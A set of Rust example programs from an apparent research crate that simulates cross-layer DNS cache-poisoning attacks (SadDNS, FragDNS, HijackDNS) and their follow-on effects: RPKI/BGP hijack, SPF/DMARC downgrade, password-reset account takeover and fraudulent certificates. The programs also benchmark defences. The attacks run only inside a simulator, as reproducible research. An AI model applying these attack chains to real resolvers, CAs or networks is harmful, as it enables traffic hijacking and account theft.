//! let report = FragDnsAttack::new(FragDnsConfig::new(env.attacker_addr)).run(&mut sim, &env);
//! assert!(report.success);
//! ```
#![forbid(unsafe_code)]

pub use apps;
pub use attacks;
pub use bgp;
pub use ca;
pub use dns;
pub use netsim;
pub use telemetry;
pub use xlayer_core;
