//! Regenerates every table and figure of the paper's evaluation section in
//! one run: the Table 1/2 taxonomies, the Table 3/4 vulnerability campaigns,
//! the Table 5 ANY-caching experiment, the Table 6 comparative analysis, the
//! Figure 3/4 distributions, the Figure 5 overlaps and the Section 6
//! countermeasure ablation.
//!
//! ```text
//! cargo run --release --example measurement_campaign
//! ```

use cross_layer_attacks::xlayer_core::prelude::*;

fn main() {
    let seed = 2021;
    let cap = 20_000;

    println!("{}", render_table1());
    println!("{}", render_table2());

    let t3 = run_table3(seed, cap);
    println!("{}", render_table3(&t3));

    let t4 = run_table4(seed, cap);
    println!("{}", render_table4(&t4));

    let t5 = run_table5(seed);
    println!("{}", render_table5(&t5));

    let t6 = run_table6(seed, 5_000, 1);
    println!("{}", render_table6(&t6));

    let fig3 = figure3_prefix_distributions(seed, cap);
    println!("{}", render_cdfs("Figure 3 — announced prefix lengths (CDF)", &fig3));

    let (edns, frag) = figure4_edns_vs_fragment(seed, cap);
    println!(
        "{}",
        render_cdfs("Figure 4 — resolver EDNS size vs nameserver minimum fragment size (CDF)", &[edns, frag])
    );

    println!("{}", render_venn("Figure 5a — vulnerable resolvers (overlap)", &figure5_resolver_overlap(seed, 5_000)));
    println!("{}", render_venn("Figure 5b — vulnerable domains (overlap)", &figure5_domain_overlap(seed, 5_000)));

    let ablation = run_ablation(&Defence::all(), seed);
    println!("{}", render_ablation(&ablation));
}
