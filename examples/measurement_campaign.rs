//! Regenerates every table and figure of the paper's evaluation section in
//! one run on the sharded campaign engine: the Table 1/2 taxonomies, the
//! Table 3/4 vulnerability campaigns, the Table 5 ANY-caching experiment,
//! the Table 6 comparative analysis, the Figure 3/4 distributions, the
//! Figure 5 overlaps and the Section 6 countermeasure ablation.
//!
//! ```text
//! cargo run --release --example measurement_campaign -- \
//!     [--seed N] [--cap N] [--workers N] [--saddns-runs N]
//! ```
//!
//! `--workers` fans the campaign shards out across a thread pool; results
//! are byte-identical for every worker count (the engine's determinism
//! contract), so the knob only changes wall-clock time.

use cross_layer_attacks::xlayer_core::prelude::*;
use std::time::Instant;

struct Args {
    seed: u64,
    cap: u64,
    workers: usize,
    saddns_runs: u64,
}

fn parse_args() -> Args {
    let mut args = Args { seed: 2021, cap: 20_000, workers: available_workers(), saddns_runs: 1 };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut grab = |name: &str| {
            it.next().unwrap_or_else(|| panic!("{name} requires a value")).parse::<u64>().unwrap_or_else(|e| {
                panic!("invalid value for {name}: {e}");
            })
        };
        match flag.as_str() {
            "--seed" => args.seed = grab("--seed"),
            "--cap" => args.cap = grab("--cap"),
            "--workers" => args.workers = grab("--workers").max(1) as usize,
            "--saddns-runs" => args.saddns_runs = grab("--saddns-runs").max(1),
            other => panic!("unknown flag {other} (expected --seed/--cap/--workers/--saddns-runs)"),
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let cfg = CampaignConfig::new(args.seed, args.cap).with_workers(args.workers);
    println!(
        "campaign engine: seed={} cap={} workers={} (of {} available), shard size {}",
        cfg.seed,
        cfg.sample_cap,
        cfg.workers,
        available_workers(),
        SHARD_SIZE
    );
    let started = Instant::now();

    println!("{}", render_table1());
    println!("{}", render_table2());

    let t3 = run_table3_with(&cfg);
    println!("{}", render_table3(&t3));

    let t4 = run_table4_with(&cfg);
    println!("{}", render_table4(&t4));

    let t5 = run_table5(cfg.seed);
    println!("{}", render_table5(&t5));

    // Reuse the Table 3/4 rows computed above instead of re-running both campaigns.
    let t6 = run_table6_from(&t3, &t4, cfg.seed, args.saddns_runs);
    println!("{}", render_table6(&t6));

    let fig3 = figure3_prefix_distributions_with(&cfg);
    println!("{}", render_cdfs("Figure 3 — announced prefix lengths (CDF)", &fig3));

    let (edns, frag) = figure4_edns_vs_fragment_with(&cfg);
    println!(
        "{}",
        render_cdfs("Figure 4 — resolver EDNS size vs nameserver minimum fragment size (CDF)", &[edns, frag])
    );

    println!("{}", render_venn("Figure 5a — vulnerable resolvers (overlap)", &figure5_resolver_overlap_with(&cfg)));
    println!("{}", render_venn("Figure 5b — vulnerable domains (overlap)", &figure5_domain_overlap_with(&cfg)));

    let ablation = run_ablation(&Defence::all(), cfg.seed);
    println!("{}", render_ablation(&ablation));

    println!("campaign complete in {:.2?} (workers={})", started.elapsed(), cfg.workers);
}
