//! The engine-at-scale benchmark: a resolver farm (anycast frontends sharing
//! one cache, a zone's worth of names, Poisson-ish stub clients) simulated
//! across the sharded campaign engine, timed in wall-clock packets/sec.
//!
//! ```text
//! cargo run --release --example engine_farm -- \
//!     [--seed N] [--hosts N] [--shards N] [--workers N] \
//!     [--duration-ms N] [--think-ms N] [--names N] [--resolvers N] \
//!     [--check-workers N] [--loaded-saddns N] [--write-bench PATH] [--metrics]
//! ```
//!
//! `--write-bench` renders the run as the committed `BENCH_engine.json`
//! document. `--check-workers N` re-runs the campaign with N workers and
//! asserts the merged stats are byte-identical — the determinism contract CI
//! smokes on every push. `--loaded-saddns N` additionally runs SadDNS against
//! a resolver serving N background stub clients (dumping the flight recorder
//! if the chain fails). `--metrics` prints the merged telemetry snapshot of
//! the farm run (and of the loaded SadDNS run, when enabled).

use cross_layer_attacks::netsim::prelude::Duration;
use cross_layer_attacks::xlayer_core::prelude::*;
use std::time::Instant;

struct Args {
    cfg: FarmCampaignConfig,
    check_workers: Option<usize>,
    loaded_saddns: Option<u32>,
    write_bench: Option<String>,
    metrics: bool,
}

fn parse_args() -> Args {
    let mut args = Args {
        cfg: FarmCampaignConfig { workers: available_workers(), ..Default::default() },
        check_workers: None,
        loaded_saddns: None,
        write_bench: None,
        metrics: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        if flag == "--write-bench" {
            args.write_bench = Some(it.next().expect("--write-bench requires a path"));
            continue;
        }
        let mut grab = |name: &str| {
            it.next().unwrap_or_else(|| panic!("{name} requires a value")).parse::<u64>().unwrap_or_else(|e| {
                panic!("invalid value for {name}: {e}");
            })
        };
        match flag.as_str() {
            "--seed" => args.cfg.seed = grab("--seed"),
            "--hosts" => args.cfg.hosts = grab("--hosts").max(1) as u32,
            "--shards" => args.cfg.shards = grab("--shards").max(1) as u32,
            "--workers" => args.cfg.workers = grab("--workers").max(1) as usize,
            "--duration-ms" => args.cfg.shard.duration = Duration::from_millis(grab("--duration-ms").max(1)),
            "--think-ms" => args.cfg.shard.mean_think = Duration::from_millis(grab("--think-ms").max(1)),
            "--names" => args.cfg.shard.names = grab("--names").max(1) as u32,
            "--resolvers" => args.cfg.shard.resolvers = grab("--resolvers").max(1) as u32,
            "--check-workers" => args.check_workers = Some(grab("--check-workers").max(1) as usize),
            "--loaded-saddns" => args.loaded_saddns = Some(grab("--loaded-saddns") as u32),
            "--metrics" => args.metrics = true,
            other => panic!(
                "unknown flag {other} (expected --seed/--hosts/--shards/--workers/--duration-ms/--think-ms/\
                 --names/--resolvers/--check-workers/--loaded-saddns/--write-bench/--metrics)"
            ),
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let cfg = args.cfg;
    println!(
        "engine farm: seed={} hosts={} shards={} workers={} (of {} available) \
         resolvers/shard={} names={} think={} sim-duration={}",
        cfg.seed,
        cfg.hosts,
        cfg.shards,
        cfg.workers,
        available_workers(),
        cfg.shard.resolvers,
        cfg.shard.names,
        cfg.shard.mean_think,
        cfg.shard.duration,
    );

    let started = Instant::now();
    let (stats, farm_metrics) = if args.metrics {
        let (stats, metrics) = run_farm_campaign_with_metrics(&cfg);
        (stats, Some(metrics))
    } else {
        (run_farm_campaign(&cfg), None)
    };
    let wall = started.elapsed();
    let wall_seconds = wall.as_secs_f64();
    let packets_per_sec = stats.packets_delivered as f64 / wall_seconds.max(1e-9);

    println!(
        "  clients={} queries={} responses={} cache-answers={} upstream={} servfails={}",
        stats.clients,
        stats.queries_sent,
        stats.responses,
        stats.cache_answers,
        stats.upstream_queries,
        stats.servfails,
    );
    println!(
        "  packets-delivered={} bytes-delivered={} cache-entries={}",
        stats.packets_delivered, stats.bytes_delivered, stats.cache_entries,
    );
    println!("  wall={wall:.2?}  throughput={packets_per_sec:.0} packets/sec");
    if let Some(metrics) = &farm_metrics {
        println!("  telemetry snapshot (merged over {} shards):", cfg.shards);
        print!("{}", metrics.render());
    }

    if let Some(check) = args.check_workers {
        let again = run_farm_campaign(&FarmCampaignConfig { workers: check, ..cfg.clone() });
        assert_eq!(again, stats, "workers={} changed the farm stats vs workers={}", check, cfg.workers);
        println!("  determinism: workers={} reproduces workers={} byte-for-byte", check, cfg.workers);
    }

    if let Some(clients) = args.loaded_saddns {
        let loaded = saddns_under_load(cfg.seed, clients);
        println!(
            "  saddns under load: success={} background-clients={} background-queries={} \
             cache-answers={} upstream={}",
            loaded.report.success,
            loaded.background_clients,
            loaded.background_queries,
            loaded.background_cache_answers,
            loaded.background_upstream,
        );
        if let Some(log) = &loaded.flight_log {
            print!("{log}");
        }
        if args.metrics {
            println!("  loaded-saddns telemetry snapshot:");
            print!("{}", loaded.metrics.render());
        }
    }

    if let Some(path) = args.write_bench {
        let bench = FarmBench { config: cfg, stats, wall_seconds, packets_per_sec };
        std::fs::write(&path, render_bench_json(&bench)).expect("write bench file");
        println!("  wrote {path}");
    }
}
