//! The campaign-layer performance baseline: the classification fast path
//! (Table 3 + Table 4 on the struct-of-arrays columns) in profiles/sec and
//! the scenario-matrix fast path (one prepared [`EnvTemplate`] per grid
//! cell) in wall-clock seconds, rendered as the committed
//! `BENCH_campaign.json`.
//!
//! ```text
//! cargo run --release --example campaign_perf -- \
//!     [--seed N] [--cap N] [--runs N] [--repeats N] [--workers N] \
//!     [--check-workers N] [--write-bench PATH] [--metrics]
//! ```
//!
//! `--metrics` runs one extra, untimed recorded pass over the scenario
//! grids and prints the merged telemetry snapshot — the timed passes stay on
//! the telemetry-off fast path, so the committed throughput numbers are
//! never perturbed by the export.
//!
//! Every timed quantity is the **minimum over `--repeats` passes** — the
//! shortest pass is the closest to the machine's true cost; the rest is
//! scheduler noise — and the results are asserted identical across passes
//! (and across `--check-workers`, the engine's determinism contract).
//!
//! [`EnvTemplate`]: cross_layer_attacks::attacks::prelude::EnvTemplate

use cross_layer_attacks::xlayer_core::prelude::*;
use std::time::{Duration, Instant};

struct Args {
    seed: u64,
    cap: u64,
    runs: u64,
    repeats: u32,
    workers: usize,
    check_workers: Option<usize>,
    write_bench: Option<String>,
    metrics: bool,
}

fn parse_args() -> Args {
    let mut args = Args {
        seed: 2021,
        cap: 200_000,
        runs: 3,
        repeats: 3,
        workers: 1,
        check_workers: None,
        write_bench: None,
        metrics: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        if flag == "--write-bench" {
            args.write_bench = Some(it.next().expect("--write-bench requires a path"));
            continue;
        }
        let mut grab = |name: &str| {
            it.next().unwrap_or_else(|| panic!("{name} requires a value")).parse::<u64>().unwrap_or_else(|e| {
                panic!("invalid value for {name}: {e}");
            })
        };
        match flag.as_str() {
            "--seed" => args.seed = grab("--seed"),
            "--cap" => args.cap = grab("--cap").max(1),
            "--runs" => args.runs = grab("--runs").max(1),
            "--repeats" => args.repeats = grab("--repeats").max(1) as u32,
            "--workers" => args.workers = grab("--workers").max(1) as usize,
            "--check-workers" => args.check_workers = Some(grab("--check-workers").max(1) as usize),
            "--metrics" => args.metrics = true,
            other => panic!(
                "unknown flag {other} \
                 (expected --seed/--cap/--runs/--repeats/--workers/--check-workers/--write-bench/--metrics)"
            ),
        }
    }
    args
}

/// Times `job` `repeats` times, asserting every pass produces the same
/// output, and returns the minimum wall clock with that output.
fn time_min<T: PartialEq + std::fmt::Debug>(repeats: u32, job: impl Fn() -> T) -> (Duration, T) {
    let t0 = Instant::now();
    let reference = job();
    let mut best = t0.elapsed();
    for _ in 1..repeats {
        let t0 = Instant::now();
        let again = job();
        best = best.min(t0.elapsed());
        assert_eq!(again, reference, "a timing pass changed the output");
    }
    (best, reference)
}

fn main() {
    let args = parse_args();

    // --- Classification fast path: Table 3 + Table 4, single-threaded. ---
    let classify_profiles: u64 = table3_datasets()
        .iter()
        .map(|s| s.sample_size(args.cap) as u64)
        .chain(table4_datasets().iter().map(|s| s.sample_size(args.cap) as u64))
        .sum();
    let cfg = CampaignConfig::new(args.seed, args.cap);
    let (classify_wall, _) = time_min(args.repeats, || (run_table3_with(&cfg), run_table4_with(&cfg)));
    let classify_rate = classify_profiles as f64 / classify_wall.as_secs_f64().max(1e-9);
    println!(
        "classify: {classify_profiles} profiles in {classify_wall:.3?} (min of {}) = {:.1} M profiles/s",
        args.repeats,
        classify_rate / 1e6
    );

    // --- Scenario-matrix fast path: classic + DNSSEC grids. ---
    let matrix_sims = (ScenarioCampaign::full_grid(args.seed, args.runs).population()
        + ScenarioCampaign::dnssec_grid(args.seed, args.runs).population()) as u64;
    let run_matrices = |workers: usize| {
        (
            ScenarioCampaign::full_grid(args.seed, args.runs).run(workers),
            ScenarioCampaign::dnssec_grid(args.seed, args.runs).run(workers),
        )
    };
    let (matrix_wall, reference) = time_min(args.repeats, || run_matrices(args.workers));
    let matrix_rate = matrix_sims as f64 / matrix_wall.as_secs_f64().max(1e-9);
    println!(
        "matrix: {matrix_sims} attack simulations in {matrix_wall:.3?} (min of {}, workers={}) = {:.1} sims/s",
        args.repeats, args.workers, matrix_rate
    );

    if let Some(check) = args.check_workers {
        assert_eq!(run_matrices(check), reference, "workers={check} changed the matrix vs workers={}", args.workers);
        println!("determinism: workers={check} reproduces workers={} byte-for-byte", args.workers);
    }

    if args.metrics {
        // One untimed recorded pass: the timed loops above stay on the
        // telemetry-off path, so the committed numbers never include export
        // cost. The recorded matrices must match the timed reference.
        let (full, mut snapshot) = ScenarioCampaign::full_grid(args.seed, args.runs).run_with_metrics(args.workers);
        let (dnssec, dnssec_metrics) =
            ScenarioCampaign::dnssec_grid(args.seed, args.runs).run_with_metrics(args.workers);
        assert_eq!((full, dnssec), reference, "the recorded pass changed the matrices");
        snapshot.merge(&dnssec_metrics);
        println!("telemetry snapshot (merged over both grids):");
        print!("{}", snapshot.render());
    }

    if let Some(path) = args.write_bench {
        let json = format!(
            "{{\n  \"bench\": \"campaign_perf\",\n  \"seed\": {},\n  \"repeats\": {},\n  \
             \"classify_cap\": {},\n  \"classify_profiles\": {},\n  \"classify_wall_seconds\": {:.3},\n  \
             \"classify_profiles_per_sec\": {:.0},\n  \"matrix_runs_per_cell\": {},\n  \
             \"matrix_workers\": {},\n  \"matrix_simulations\": {},\n  \"matrix_wall_seconds\": {:.3},\n  \
             \"matrix_sims_per_sec\": {:.1}\n}}\n",
            args.seed,
            args.repeats,
            args.cap,
            classify_profiles,
            classify_wall.as_secs_f64(),
            classify_rate,
            args.runs,
            args.workers,
            matrix_sims,
            matrix_wall.as_secs_f64(),
            matrix_rate,
        );
        std::fs::write(&path, json).expect("write bench file");
        println!("wrote {path}");
    }
}
