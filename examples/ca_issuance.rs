//! The certificate-authority subsystem end to end: a genuine DNS-01 and
//! HTTP-01 issuance with full packet/byte accounting, the fraudulent-
//! certificate chain for each poisoning vector, and the CA-layer defence
//! ablation (multi-vantage validation vs an interception hijack vs DNSSEC).
//!
//! ```text
//! cargo run --release --example ca_issuance -- [--seed N]
//! ```

use cross_layer_attacks::attacks::prelude::PoisonMethod;
use cross_layer_attacks::ca::prelude::*;
use cross_layer_attacks::xlayer_core::prelude::*;

fn parse_seed() -> u64 {
    let mut seed = 2021u64;
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        match flag.as_str() {
            "--seed" => {
                seed = it
                    .next()
                    .unwrap_or_else(|| panic!("--seed requires a value"))
                    .parse()
                    .unwrap_or_else(|e| panic!("invalid --seed: {e}"));
            }
            other => panic!("unknown flag {other} (expected --seed)"),
        }
    }
    seed
}

fn genuine_issuance(seed: u64, challenge: ChallengeType) {
    let mut authority = CertificateAuthority::new(CaConfig::standard(seed));
    let owner = AcmeAccount::new("owner@vict.im");
    let order = authority.order(&owner, &"www.vict.im".parse().unwrap(), challenge);
    match challenge {
        ChallengeType::Dns01 => authority.provision_dns01(&order),
        ChallengeType::Http01 => authority.provision_http01(&order),
    }
    let report = authority.issue(&order, &[]);
    let cert = report.outcome.certificate().expect("genuine issuance succeeds");
    println!(
        "{} issuance of {}: certificate #{:04} issued to {} after {:.1} ms",
        challenge,
        cert.domain,
        cert.serial,
        cert.issued_to,
        report.duration.as_secs_f64() * 1000.0
    );
    println!(
        "  validation cost: {} packets / {} bytes on the wire, {} upstream DNS queries",
        report.validation_packets, report.validation_bytes, report.dns_upstream_queries
    );
    print!("{}", indent(&report.render_traffic()));
}

fn indent(s: &str) -> String {
    s.lines().map(|l| format!("  {l}\n")).collect()
}

fn main() {
    let seed = parse_seed();
    println!("== Genuine issuance (seed {seed}) ==");
    genuine_issuance(seed, ChallengeType::Dns01);
    genuine_issuance(seed, ChallengeType::Http01);

    println!("\n== The attack: a fraudulent certificate per vector (no defences) ==");
    for method in PoisonMethod::all() {
        let cell = run_issuance_cell(method, Defence::None, seed);
        println!(
            "{:<9} -> poisoned: {:5} issued: {:5} (attacker sent {} packets / {} bytes)",
            method.name(),
            cell.poisoned,
            cell.issued,
            cell.report.attacker_packets,
            cell.report.attacker_bytes
        );
    }

    println!("\n== CA-layer defences ==");
    let cells = run_issuance_ablation(&ca_defences(), seed);
    println!("{}", render_issuance_ablation(&cells));

    let mvv = cells.iter().find(|c| c.defence == Defence::multi_vantage() && c.method == PoisonMethod::SadDns);
    if let Some(cell) = mvv {
        println!(
            "multi-vantage validation: SadDNS still poisons the CA resolver ({}) but the vantage quorum refuses \
             the order (issued: {})",
            cell.poisoned, cell.issued
        );
    }
    println!(
        "the interception hijack defeats the quorum — only DNSSEC (re-verifying the cached snapshot) refuses all three"
    );
}
