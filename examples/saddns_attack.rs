//! The SadDNS side-channel attack, end to end (the message flow of Figure 1):
//! mute the nameserver via its response rate limit, scan for the resolver's
//! open ephemeral port through the global ICMP rate-limit side channel, then
//! brute-force the TXID.
//!
//! The resolver draws its ephemeral ports from a narrowed 256-port range so
//! the example finishes in seconds; the scan logic is identical for the full
//! 2^16-port range (see `xlayer_core::analysis::saddns_effectiveness` for the
//! extrapolation used in the Table 6 reproduction).
//!
//! ```text
//! cargo run --example saddns_attack
//! ```

use cross_layer_attacks::attacks::prelude::*;
use cross_layer_attacks::netsim::prelude::*;

fn main() {
    let mut env_cfg = VictimEnvConfig::default();
    env_cfg.resolver.port_range = (40000, 40255);
    env_cfg.resolver.query_timeout = Duration::from_secs(30);
    env_cfg.resolver.max_retries = 0;
    env_cfg.nameserver = env_cfg.nameserver.with_rrl(10);
    let (mut sim, env) = env_cfg.build();

    println!("resolver        : {} (global ICMP limit: yes, ports 40000-40255)", env.resolver_addr);
    println!("nameserver      : {} (response rate limiting: yes)", env.nameserver_addr);
    println!("attacker        : {}", env.attacker_addr);
    println!();

    let mut cfg = SadDnsConfig::new(env.attacker_addr);
    cfg.scan_range = (40000, 40255);
    let report = SadDnsAttack::new(cfg).run(&mut sim, &env);

    println!("== SadDNS attack report ==");
    println!("success          : {}", report.success);
    println!("iterations       : {}", report.iterations);
    println!("queries triggered: {}", report.queries_triggered);
    println!("attacker packets : {}", report.attacker_packets);
    println!("attacker bytes   : {}", report.attacker_bytes);
    println!("simulated time   : {}", report.duration);
    for note in &report.notes {
        println!("note: {note}");
    }
    println!();
    let target: cross_layer_attacks::dns::DomainName = "www.vict.im".parse().unwrap();
    println!(
        "cache entry for {target}: {:?} (attacker is {})",
        env.resolver(&sim).cache().cached_a(&target, sim.now()),
        env.attacker_addr
    );
}
