//! The SadDNS side-channel attack, end to end (the message flow of Figure 1):
//! mute the nameserver via its response rate limit, scan for the resolver's
//! open ephemeral port through the global ICMP rate-limit side channel, then
//! brute-force the TXID.
//!
//! The attack is driven through the `attacks::vectors` registry: the vector's
//! [`AttackVector::prepare_env`] sets up every environment precondition the
//! methodology needs (the narrowed 256-port ephemeral range so the example
//! finishes in seconds, the long race window, the mutable nameserver), so no
//! hand-tuning of `VictimEnvConfig` happens here. The scan logic is identical
//! for the full 2^16-port range (see `xlayer_core::analysis::saddns_effectiveness`
//! for the extrapolation used in the Table 6 reproduction).
//!
//! ```text
//! cargo run --example saddns_attack
//! ```

use cross_layer_attacks::attacks::prelude::*;

fn main() {
    let vector = vectors::saddns();
    let (scan_lo, scan_hi) = vector.config.scan_range;
    let mut env_cfg = VictimEnvConfig::default();
    vector.prepare_env(&mut env_cfg);
    let (mut sim, env) = env_cfg.build();

    println!("resolver        : {} (global ICMP limit: yes, ports {scan_lo}-{scan_hi})", env.resolver_addr);
    println!("nameserver      : {} (response rate limiting: yes)", env.nameserver_addr);
    println!("attacker        : {}", env.attacker_addr);
    println!();

    let report = vector.execute(&mut sim, &env);

    println!("== SadDNS attack report ==");
    println!("success          : {}", report.success);
    println!("iterations       : {}", report.iterations);
    println!("queries triggered: {}", report.queries_triggered);
    println!("attacker packets : {}", report.attacker_packets);
    println!("attacker bytes   : {}", report.attacker_bytes);
    println!("simulated time   : {}", report.duration);
    for note in &report.notes {
        println!("note: {note}");
    }
    println!();
    let target: cross_layer_attacks::dns::DomainName = "www.vict.im".parse().unwrap();
    println!(
        "cache entry for {target}: {:?} (attacker is {})",
        env.resolver(&sim).cache().cached_a(&target, sim.now()),
        env.attacker_addr
    );
}
