//! Cross-layer attacks against email: SPF/DMARC downgrade (spoofed mail gets
//! accepted) and password-recovery account takeover (the reset link is
//! delivered to the attacker) — Table 1 rows "SPF,DMARC" and "Password
//! recovery".
//!
//! ```text
//! cargo run --example email_downgrade
//! ```

use cross_layer_attacks::xlayer_core::prelude::*;

fn main() {
    println!("== SPF / DMARC downgrade ==");
    let spf = spf_downgrade_scenario(7);
    println!("verdict for the attacker's spoofed mail before the attack: {:?}", spf.before);
    println!("verdict for the attacker's spoofed mail after the attack : {:?}", spf.after);
    println!("spoofed mail accepted after the attack                   : {}", spf.spoofed_mail_accepted);
    println!();

    println!("== Password-recovery account takeover ==");
    let takeover = password_recovery_scenario(8);
    println!("MX/A records poisoned           : {}", takeover.dns_poisoned);
    println!("recovery link delivery before   : {:?}", takeover.before);
    println!("recovery link delivery after    : {:?}", takeover.after);
    println!();
    println!("result: the attacker receives the password-reset link and takes over the account.");
}
