//! Cross-layer attacks against email on the `Scenario` pipeline: SPF/DMARC
//! downgrade (spoofed mail gets accepted) and password-recovery account
//! takeover (the reset link is delivered to the attacker) — Table 1 rows
//! "SPF,DMARC" and "Password recovery".
//!
//! Both chains are the same trigger → poison → exploit pipeline with a
//! different `ExploitStage` plugged in; compare with `scenario_matrix` for
//! the full grid and `xlayer_core::crosslayer` for the wrapper functions.
//!
//! ```text
//! cargo run --example email_downgrade
//! ```

use cross_layer_attacks::attacks::prelude::*;
use cross_layer_attacks::xlayer_core::prelude::*;

fn main() {
    println!("== SPF / DMARC downgrade ==");
    // The attacker intercepts the policy TXT lookup and erases the answer
    // (`spf_downgrade_vector`: an EmptyAnswer HijackDNS forgery, shared with
    // `crosslayer::spf_downgrade_scenario` so the wiring cannot drift); the
    // attack phase runs against a second receiving server (cold cache).
    let spf = Scenario::new(VictimEnvConfig { seed: 7, ..Default::default() })
        .trigger(QueryTrigger::InternalClient)
        .vector(Box::new(spf_downgrade_vector()))
        .exploit(SpfPolicyExploit::new("vict.im"))
        .attack_phase(AttackPhase::FreshEnvironment { seed_bump: 1 })
        .run();
    println!("verdict for the attacker's spoofed mail before the attack: {:?}", spf.before.unwrap());
    println!("verdict for the attacker's spoofed mail after the attack : {:?}", spf.exploit.unwrap());
    println!("spoofed mail accepted after the attack                   : {}", spf.chain_succeeded());
    println!();

    println!("== Password-recovery account takeover ==");
    // Poison the A record of the account domain's mail host at the
    // provider's resolver; the reset link follows the poisoned record.
    let takeover = Scenario::new(VictimEnvConfig { seed: 8, ..Default::default() })
        .trigger(QueryTrigger::InternalClient)
        .vector(Box::new(account_takeover_vector()))
        .exploit(PasswordRecoveryExploit::new("mail.vict.im", "30.0.0.26".parse().unwrap()))
        .run();
    println!("MX/A records poisoned           : {}", takeover.report.success);
    println!("recovery link delivery before   : {:?}", takeover.before.unwrap());
    println!("recovery link delivery after    : {:?}", takeover.exploit.unwrap());
    println!();
    println!("result: the attacker receives the password-reset link and takes over the account.");
}
