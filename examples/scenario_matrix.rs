//! The (vector × defence × seed) attack-success-rate matrix on the sharded
//! campaign engine: every Section 3 methodology against every Section 6
//! defence, each cell backed by `--runs` independently-seeded full attack
//! simulations, fanned out across `--workers` threads. Results are
//! byte-identical for every worker count (the engine's determinism
//! contract).
//!
//! ```text
//! cargo run --release --example scenario_matrix -- \
//!     [--seed N] [--runs N] [--workers N] [--metrics]
//! ```
//!
//! `--metrics` additionally runs the grids through the recorded evaluation
//! path and prints the merged telemetry snapshot (`attacks.*`, `dns.*`,
//! `engine.*`, `campaign.*`) — byte-identical at any worker count.

use cross_layer_attacks::attacks::prelude::*;
use cross_layer_attacks::xlayer_core::prelude::*;
use std::time::Instant;

struct Args {
    seed: u64,
    runs: u64,
    workers: usize,
    metrics: bool,
}

fn parse_args() -> Args {
    let mut args = Args { seed: 2021, runs: 3, workers: available_workers(), metrics: false };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut grab = |name: &str| {
            it.next().unwrap_or_else(|| panic!("{name} requires a value")).parse::<u64>().unwrap_or_else(|e| {
                panic!("invalid value for {name}: {e}");
            })
        };
        match flag.as_str() {
            "--seed" => args.seed = grab("--seed"),
            "--runs" => args.runs = grab("--runs").max(1),
            "--workers" => args.workers = grab("--workers").max(1) as usize,
            "--metrics" => args.metrics = true,
            other => panic!("unknown flag {other} (expected --seed/--runs/--workers/--metrics)"),
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let campaign = ScenarioCampaign::full_grid(args.seed, args.runs);
    println!(
        "scenario campaign: seed={} runs/cell={} grid={}x{} ({} attack simulations) workers={} (of {} available)",
        args.seed,
        args.runs,
        campaign.methods.len(),
        campaign.defences.len(),
        campaign.population(),
        args.workers,
        available_workers()
    );
    let started = Instant::now();
    let mut telemetry = args.metrics.then(cross_layer_attacks::telemetry::MetricsSnapshot::new);
    let matrix = match &mut telemetry {
        Some(snapshot) => {
            let (matrix, m) = campaign.run_with_metrics(args.workers);
            snapshot.merge(&m);
            matrix
        }
        None => campaign.run(args.workers),
    };
    println!("{}", render_scenario_matrix(&matrix));
    let baseline = matrix.cell(PoisonMethod::HijackDns, Defence::None).expect("baseline cell");
    println!(
        "undefended HijackDNS baseline: {}/{} successes, {:.1} queries per success",
        baseline.successes,
        baseline.runs,
        baseline.avg_queries_per_success()
    );
    // The DNSSEC deployment grid: the four attacks against the signing
    // pipeline itself, across the deployment profiles (no DS, NSEC, NSEC3
    // opt-out, strict rollover).
    let dnssec_campaign = ScenarioCampaign::dnssec_grid(args.seed, args.runs);
    let dnssec = match &mut telemetry {
        Some(snapshot) => {
            let (matrix, m) = dnssec_campaign.run_with_metrics(args.workers);
            snapshot.merge(&m);
            matrix
        }
        None => dnssec_campaign.run(args.workers),
    };
    println!("{}", render_dnssec_matrix(&dnssec));
    if let Some(snapshot) = &telemetry {
        println!("telemetry snapshot (merged over both grids):");
        print!("{}", snapshot.render());
    }
    println!("matrix complete in {:.2?} (workers={})", started.elapsed(), args.workers);
}
