//! The paper's headline cross-layer attack: DNS cache poisoning downgrades
//! RPKI route-origin validation, re-enabling a BGP prefix hijack that ROV
//! would otherwise have filtered (Section 4 / Table 1, row "RPKI").
//!
//! ```text
//! cargo run --example rpki_downgrade
//! ```

use cross_layer_attacks::xlayer_core::prelude::*;

fn main() {
    let outcome = rpki_downgrade_scenario(2021);

    println!("== Cross-layer attack: DNS poisoning -> RPKI downgrade -> BGP hijack ==");
    println!();
    println!("step 1: poison the resolver used by the RPKI relying party");
    println!("        repository hostname poisoned: {}", outcome.dns_poisoned);
    println!();
    println!("step 2: the relying party synchronises against the attacker's host");
    println!("        validation of the hijacked announcement before: {:?}", outcome.validity_before);
    println!("        validation of the hijacked announcement after : {:?}", outcome.validity_after);
    println!();
    println!("step 3: the attacker announces the victim's prefix");
    println!("        hijack accepted by ROV-enforcing ASes before the attack: {}", outcome.hijack_accepted_before);
    println!("        hijack accepted by ROV-enforcing ASes after the attack : {}", outcome.hijack_accepted_after);
    println!();
    if !outcome.hijack_accepted_before && outcome.hijack_accepted_after {
        println!("result: route origin validation was neutralised by DNS cache poisoning.");
    } else {
        println!("result: the downgrade did not complete (see fields above).");
    }
}
