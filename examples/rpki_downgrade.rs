//! The paper's headline cross-layer attack on the `Scenario` pipeline: DNS
//! cache poisoning downgrades RPKI route-origin validation, re-enabling a
//! BGP prefix hijack that ROV would otherwise have filtered (Section 4 /
//! Table 1, row "RPKI").
//!
//! The chain is one pipeline run: trigger the relying party's lookup of the
//! repository hostname, poison it with a HijackDNS vector, and let the
//! stateful `RpkiDowngradeExploit` stage observe the relying party's ROA
//! cache and the hijack's fate before and after.
//!
//! ```text
//! cargo run --example rpki_downgrade
//! ```

use cross_layer_attacks::attacks::prelude::*;
use cross_layer_attacks::xlayer_core::prelude::*;

fn main() {
    // `rpki_downgrade_vector` is the same configured vector the
    // `crosslayer::rpki_downgrade_scenario` wrapper runs, so this demo and
    // the golden-locked wrapper cannot drift apart.
    let outcome = Scenario::new(VictimEnvConfig { seed: 2021, ..Default::default() })
        .trigger(QueryTrigger::InternalClient)
